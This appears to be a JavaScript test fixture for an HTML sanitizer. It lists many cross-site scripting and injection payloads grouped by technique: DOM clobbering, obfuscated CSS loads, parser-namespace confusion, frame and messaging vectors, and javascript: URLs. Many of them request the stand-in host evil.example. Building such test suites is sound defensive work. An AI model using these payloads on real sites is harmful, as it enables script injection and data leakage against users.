// The project's own hostile texts, by kind. `X` must not be called, evil.example must not be
// requested. Each is the body of a page.

const IMG = '<img src=x onerror=X()>';
const EVIL = 'https://evil.example';

/** Names that shadow properties of a walker, so that it misses what follows. */
export const CLOBBERING = [
  `<img name="documentElement"><script>X()</script>${IMG}`,
  `<img name="head"><script>X()</script>`,
  `<form name="body"></form>${IMG}`,
  `<form name="documentElement"><b>in</b></form><script>X()</script>`,
  `<form name="body"><input name="childNodes"></form><script>X()</script>`,
  `<object name="querySelectorAll"></object>${IMG}`,
  `<embed name="createElement">${IMG}`,
  `<iframe name="createNodeIterator"></iframe>${IMG}`,
  `<img id="a" name="createTreeWalker">${IMG}`,
  `<img name="getElementsByTagName"><img name="implementation">${IMG}`,
  `<form><input name="attributes"><input name="childNodes"><input name="nodeName">${IMG}</form>`,
  `<form onclick="X()"><input name="removeAttribute"><button>b</button></form>`,
  `<form onclick="X()"><input name="getAttribute"><input name="setAttribute"><button>b</button></form>`,
  `<form onclick=X()><input name=parentNode><input name=removeChild><input name=remove>${IMG}</form>`,
  `<form><input name="ownerDocument"><input name="nodeType">${IMG}</form>`,
  `<form id="f"></form><input form="f" name="attributes"><button form="f" onclick="X()">b</button>`,
  `<a href="${EVIL}/click"><form><input name="hasAttribute"><b>c</b></form></a>`,
  `<a href="javascript:X()"><form><input name="matches"><input name="hasAttribute"><b>c</b></form></a>`,
  `<form><a href="javascript:X()">c<input name="composedPath"></a></form>`,
  `<img name="adoptedStyleSheets"><img name="currentScript"><a href="javascript:X()">c</a>`,
  `<a id="meridianFrame" href="${EVIL}/frame"></a><a id="meridianFrame" name="fetch" href="javascript:X()"></a>`,
  `<form name="meridianFrame"><input name="fetch"></form><meridian-globe src="${EVIL}/stops.json"></meridian-globe>`,
  `<img name="addEventListener"><img name="open"><img name="write"><script>X()</script>`,
  `<form name="head" style="background:url(${EVIL}/f)"><input name="style"></form>`,
  `<img name="__proto__"><img name="constructor"><form name="constructor"><input name="prototype"></form>${IMG}`,
  `<svg><style><img name="documentElement"></style></svg>${IMG}`,
];

/** Style sheets that load files in a syntax that parsers other than a browser miss. */
export const SHEETS = [
  `p{background:\\2d\vurl(${EVIL}/1)}`,
  `p{background:\\2d\u00a0url(${EVIL}/2)}`,
  `p{background:\\2d\u2028url(${EVIL}/3)}`,
  `p{background:\\2d\ufeffurl(${EVIL}/4)}`,
  `p{background:u\\72l(${EVIL}/5)}`,
  `p{background:\\55\\52\\4c(${EVIL}/6)}`,
  `p{background:\\000075 rl(${EVIL}/7)}`,
  `p{background:\\75\frl(${EVIL}/8)}`,
  `p{background:\\75\r\nrl(${EVIL}/9)}`,
  `p{background:url(\\68ttps://evil.example/10)}`,
  `p{background:url(\t\f\r\n${EVIL}/11\f)}`,
  `p{background:url("https:\\\n//evil.example/12")}`,
  `p{content:"\n;background:url(${EVIL}/13)}`,
  `p{content:"\\\f";background:url(${EVIL}/14)}`,
  `p{content:'\\';background:url(${EVIL}/15);x:'}`,
  `/*/*/p{background:url(${EVIL}/16)}/**/`,
  `<!-- p{background:url(${EVIL}/17)} -->`,
  `@import "${EVIL}/18";`,
  `@\\69mport url(${EVIL}/19);`,
  `@import/**/'${EVIL}/20'/**/;`,
  `@IMPORT url("${EVIL}/21") layer(a);`,
  `p{background:image-set("${EVIL}/22" 1x)}`,
  `p{background:-webkit-image-set(url(${EVIL}/23) 1x)}`,
  `p{background:i\\6dage-set('${EVIL}/24' 1x)}`,
  `p{--a:url(${EVIL}/25);background:var(--a)}`,
  `p{--a:"${EVIL}/26";background:image-set(var(--a) 1x)}`,
  `p{background:src("${EVIL}/27")}`,
  `@font-face{font-family:f;src:url(${EVIL}/28)}p{font-family:f}`,
  `@font-face{font-family:g;src:local("x"),u\\52L('${EVIL}/29')format("woff2")}p{font:1em g}`,
  `p{cursor:url(${EVIL}/30),auto}p:hover{cursor:url(${EVIL}/31) 2 2,auto}`,
  `p{list-style:url(${EVIL}/32);display:list-item}`,
  `p::before{content:url(${EVIL}/33)}`,
  `p{border-image:url(${EVIL}/34) 1;border:1px solid}`,
  `p{mask:url(${EVIL}/35#m);clip-path:url(${EVIL}/36#c);filter:url(${EVIL}/37#f)}`,
  `p{shape-outside:url(${EVIL}/38);float:left}`,
  `p{background:cross-fade(url(${EVIL}/39),url(${EVIL}/40),50%)}`,
  `@media all{@supports(color:red){@layer a{p{background:url(${EVIL}/41)}}}}`,
  `p{&{background:url(${EVIL}/42)}}`,
  `@scope(p){:scope{background:url(${EVIL}/43)}}`,
  `@container(min-width:1px){p{background:url(${EVIL}/44)}}`,
  `@namespace url(${EVIL}/45);p{color:red}`,
  `p{background:url(${EVIL}/46`,
  `p{background:url("${EVIL}/47`,
  `p{background:url(a b(c);background:url(${EVIL}/48)}`,
  `p{background:url(a"b);background:url(${EVIL}/49)}`,
  `p{background:URL( '${EVIL}/50' )}`,
  `p{x:\\;background:url(${EVIL}/51)}`,
  `p{x:[;background:url(${EVIL}/52)}p{background:url(${EVIL}/53)}`,
  `@property --b{syntax:"<image>";inherits:false;initial-value:url(${EVIL}/54)}p{background:var(--b)}`,
  `p{offset-path:url(${EVIL}/55#p);behavior:url(${EVIL}/56);-moz-binding:url(${EVIL}/57)}`,
  `p{background:\\000000000000000075rl(${EVIL}/58);background:\u0000url(${EVIL}/59)}`,
  `p{background:-moz-element(#x),url(${EVIL}/60)}@keyframes k{to{background:url(${EVIL}/61)}}p{animation:k 1s forwards}`,
];
/** The same in a sheet, in an attribute and in a sheet of SVG. */
export const CSS = SHEETS.map((sheet, at) => {
  const rule = /^p\{([^]*?)\}?$/.exec(sheet)?.[1];
  if (at % 4 === 1 && rule && !/[{}]/.test(rule))
    return `<p style="${rule.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">P</p>`;
  return at % 4 === 3
    ? `<svg><style>${sheet.replaceAll('<', '&lt;')}</style></svg><p>P</p>`
    : `<style>${sheet}</style><p>P</p>`;
});

/** Text to one parser and an element to the next. */
export const NAMESPACES = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X()&gt;">`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${IMG}"></style></h1>`,
  `<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<svg><title><style><a title="</style>${IMG}"></a></style></title></svg>`,
  `<svg><desc><style><!--</style><a title="--&gt;${IMG}">`,
  `<svg><foreignobject><style><!--</style>${IMG}--&gt;</style></foreignobject></svg>`,
  `<svg><annotation-xml encoding="text/html"><style><a title="</style>${IMG}">`,
  `<math><annotation-xml encoding="text/html"><xmp><img title="</xmp>${IMG}">`,
  `<math><annotation-xml encoding="application/xhtml+xml"><noembed><img title="</noembed>${IMG}">`,
  `<noscript><p title="</noscript>${IMG}"></noscript>`,
  `<noframes><p title="</noframes>${IMG}"></noframes>`,
  `<noembed><p title="</noembed>${IMG}"></noembed>`,
  `<iframe><p title="</iframe>${IMG}"></iframe>`,
  `<textarea><p title="</textarea>${IMG}"></textarea>`,
  `<title><p title="</title>${IMG}"></title>`,
  `<xmp><p title="</xmp>${IMG}"></xmp>`,
  `<plaintext>${IMG}`,
  `<select><template><option><style></template></select>${IMG}</style>`,
  `<template><svg><template><style></template></svg></template>${IMG}`,
  `<template shadowrootmode="open">${IMG}<slot></slot></template>`,
  `<div><template shadowrootmode="open"><script>X()</script></template></div>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='X()'/></svg>#x"></use></svg>`,
  `<svg><animate attributeName="href" values="javascript:X()"/><a id="x"><text y="20">c</text></a><animate href="#x" attributeName="href" to="javascript:X()"/></svg>`,
  `<svg><set attributeName="onload" to="X()"/><image href="${EVIL}/set"/></svg>`,
  `<svg><script href="data:,X()"></script><script>X()</script></svg>`,
  `<svg><a xlink:href="javascript:X()"><text y="20">c</text></a></svg>`,
  `<math href="javascript:X()"><mi>c</mi></math>`,
  `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:X()"><mi>c</mi></maction></math>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">X()</handler></svg>`,
  `<?xml-stylesheet href="javascript:X()"?><?php ${IMG} ?>`,
  `<![CDATA[><img src=x onerror=X()>]]>`,
  `<svg><![CDATA[><img src=x onerror=X()>]]></svg>`,
  `<!--><img src=x onerror=X()>-->`,
  `<!--!><img src=x onerror=X()>--!>`,
  `<p is="x" slot="y" part="z" onbeforetoggle=X() popover id="q">c</p><button popovertarget="q">c</button>`,
  `<${'div><'.repeat(300)}img src=x onerror=X()>`,
  `${'<svg><desc>'.repeat(80)}<style><a title="</style>${IMG}">`,
];

/** Messages to other windows, and new documents. */
export const PORTS = [
  `<script>parent.postMessage({ready:location.hash},'*');parent.X&&parent.X();X()</script>`,
  `<iframe srcdoc="<script>parent.X();top.X();parent.postMessage('','*',[new MessageChannel().port1])</script>"></iframe>`,
  `<iframe src="javascript:parent.X()"></iframe>`,
  `<iframe src="/playground/frame-own.html#x" onload="this.contentWindow.postMessage('','*',[new MessageChannel().port2]);X()"></iframe>`,
  `<iframe src="${EVIL}/frame" name="x"></iframe><a href="javascript:X()" target="x">c</a>`,
  `<object data="${EVIL}/object" type="text/html"></object>`,
  `<embed src="${EVIL}/embed" type="text/html">`,
  `<frameset onload="X()"><frame src="${EVIL}/frameset"></frameset>`,
  `<portal src="${EVIL}/portal"></portal><fencedframe src="${EVIL}/fenced"></fencedframe>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>X()</script>`,
  `<meta http-equiv="set-cookie" content="a=b"><meta name="referrer" content="unsafe-url"><img src="${EVIL}/referrer">`,
  `<base href="${EVIL}/"><img src="base.png"><a href="javascript:X()">c</a>`,
  `<link rel="stylesheet" href="${EVIL}/sheet"><link rel="preload" as="script" href="${EVIL}/preload">`,
  `<link rel="dns-prefetch" href="${EVIL}"><link rel="preconnect" href="${EVIL}"><link rel="prerender" href="${EVIL}/prerender">`,
  `<link rel="icon" href="${EVIL}/icon"><link rel="manifest" href="${EVIL}/manifest"><link rel="modulepreload" href="${EVIL}/module">`,
  `<script type="speculationrules">{"prefetch":[{"urls":["${EVIL}/speculation"]}]}</script>`,
  `<script type="importmap">{"imports":{"x":"${EVIL}/map"}}</script><script type="module">import "x";X()</script>`,
  `<form action="${EVIL}/form"><button formaction="${EVIL}/button" onclick="X()">c</button></form>`,
  `<form action="javascript:X()"><input type="submit" value="c"><input type="image" src="${EVIL}/image"></form>`,
  `<form method="dialog"><button formtarget="_top" formaction="javascript:X()">c</button></form>`,
];

/** Addresses and the elements that load them. */
export const LINKS = [
  `<a href="java\tscript:X()">c</a><a href=" javascript:X()">c</a><a href="\u0001javascript:X()">c</a>`,
  `<a href="javascript&colon;X()">c</a><a href="&#106;avascript:X()">c</a><a href="javascript&NewLine;:X()">c</a>`,
  `<a href="data:text/html,<script>parent.X()</script>">c</a><a href="blob:x">c</a><a href="vbscript:X()">c</a>`,
  `<a href="${EVIL}/ping" ping="${EVIL}/ping2">c</a><area href="javascript:X()"><map name="m"><area href="javascript:X()"></map>`,
  `[c](javascript:X()) [d](data:text/html,%3Cscript%3EX()%3C/script%3E) ![e](${EVIL}/markdown.png)`,
  `[c]: javascript:X()\n\n[c] <javascript:X()>`,
  `*a*{: onclick="X()" style="background:url(${EVIL}/ial)"}`,
  `![a](x.png){: srcset="${EVIL}/srcset 2x" onerror="X()"}`,
  `<img srcset="${EVIL}/a 1x, ${EVIL}/b 2x" src="${EVIL}/c" lowsrc="${EVIL}/d" dynsrc="${EVIL}/e">`,
  `<img srcset="data:,a ${EVIL}/f,blob:x ${EVIL}/g 2x" sizes="100vw">`,
  `<picture><source srcset="${EVIL}/h"><source src="${EVIL}/i"><img></picture>`,
  `<video src="${EVIL}/j" poster="${EVIL}/k" onerror=X()></video><audio src="${EVIL}/l" onerror=X()></audio><video><source src="${EVIL}/m" onerror=X()><track default src="${EVIL}/n"></video>`,
  `<input type="image" src="${EVIL}/o" onerror="X()"><table background="${EVIL}/p"><td background="${EVIL}/q">t</table><body background="${EVIL}/r" onload=X()>`,
  `<svg><image href="${EVIL}/s"/><image xlink:href="${EVIL}/t"/><feImage href="${EVIL}/u"/><use href="${EVIL}/v#x"/><pattern href="${EVIL}/w#x"/></svg>`,
  `<svg fill="url(${EVIL}/x#a)" mask="url(${EVIL}/y#a)" filter="url(${EVIL}/z#a)"><rect clip-path="u\\72l(${EVIL}/aa#a)" marker-start="url(${EVIL}/ab#a)" width="9" height="9"/></svg>`,
  `<meridian-globe src="${EVIL}/globe.json" data-picture="x" onclick="X()"><ul><li data-lat="1" data-lon="2" data-image="${EVIL}/ac"><a href="javascript:X()">c</a></ul></meridian-globe>`,
  `<details open ontoggle=X()><summary onclick=X()>c</summary></details><dialog open onclose=X()>d</dialog>`,
  `<input autofocus onfocus=X()><select autofocus onfocus=X()></select><p contenteditable tabindex=1 autofocus onfocus=X()>p`,
  `<style onload=X()></style><link rel=stylesheet href="data:text/css," onload=X()><p style="animation:k 1s" onanimationstart=X()>p<style>@keyframes k{}</style>`,
  `<marquee onstart=X()>m</marquee><p onscrollend=X() onpointerrawupdate=X() oncontentvisibilityautostatechange=X() style="content-visibility:auto">p`,
  `<blockquote cite="javascript:X()"><q cite="${EVIL}/cite">q</q></blockquote><ins cite="javascript:X()">i</ins><a attributionsrc="${EVIL}/ad" href="#">c</a><img attributionsrc="${EVIL}/ae">`,
  `<button command="show-modal" commandfor="d" onclick="X()">c</button><dialog id="d" oncommand="X()" onbeforetoggle="X()">d</dialog>`,
];

/** All of them, with their kind. */
export const OWN = Object.entries({
  clobbering: CLOBBERING,
  css: CSS,
  namespaces: NAMESPACES,
  ports: PORTS,
  links: LINKS,
}).flatMap(([kind, payloads]) =>
  payloads.map((payload, at) => ({ id: `${kind}-${at + 1}`, payload })),
);

// Closes elements and texts that a vector leaves open.
const CLOSED =
  '\n\n--></style></title></textarea></xmp></noscript></noembed></noframes></iframe></select></template></svg></math></form></p></div>\n\n';
// Vectors in one page.
const TOGETHER = 16;
/**
 * Combines several texts in one page, for ways on which single ones would take too long. Without
 * those that swallow the rest of their page or replace it.
 */
export function batchesOf(cases) {
  const together = cases.filter(
    ({ payload }) =>
      !/<(plaintext|frameset|template shadowrootmode)|http-equiv="refresh|^\[c\]:|(div><|desc>){9}/.test(
        payload,
      ),
  );
  const batches = Array.from({ length: Math.ceil(together.length / TOGETHER) }, (_, at) =>
    together.slice(at * TOGETHER, (at + 1) * TOGETHER),
  );
  const alone = cases.filter((vector) => !together.includes(vector)).map((vector) => [vector]);
  return [...batches, ...alone].map((vectors) => ({
    id: vectors.map(({ id }) => id).join(' '),
    payload: vectors.map(({ payload }) => payload).join(CLOSED),
  }));
}
